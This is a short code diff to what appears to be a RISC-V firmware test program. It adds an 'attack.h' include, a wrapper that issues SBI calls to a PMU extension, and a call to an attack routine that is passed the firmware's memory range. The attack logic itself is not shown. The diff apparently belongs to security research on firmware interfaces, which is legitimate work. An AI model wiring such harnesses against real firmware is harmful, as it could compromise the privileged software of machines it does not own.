@@ -10,6 +10,7 @@
 #include <string.h>
 #define PMUMAP_BINDINGS PMUMAP_RISCV
 #include "pmumap_hw.h"
+#include "attack.h"
 #include "check.h"
 #include "mtrap.h"
 #include "pmu.h"
@@ -137,6 +138,11 @@ static void check_firmware(void)
 	mem_start = (uintptr_t)entry;
 }
 
+static int attack_call(unsigned long function, uint64_t a0, uint64_t a1, uint64_t a2, uint64_t a3)
+{
+	return (int)call(PMUMAP_SBI_EID, function, a0, a1, a2, a3);
+}
+
 int main(int argc, char **argv)
 {
 	FILE *file = argc > 1 ? fopen(argv[1], "rb") : NULL;
@@ -157,6 +163,7 @@ int main(int argc, char **argv)
 	check_base();
 	check_counter();
 	check_firmware();
+	attack(attack_call, mem_start, memory, mem_size, 5, ~0ull);
 	pmu_filter_tree(mem_start + 4096);
 	pmu_read_tree(mem_start + 4096); /* has no rows now */
 	pmu_init_hart();
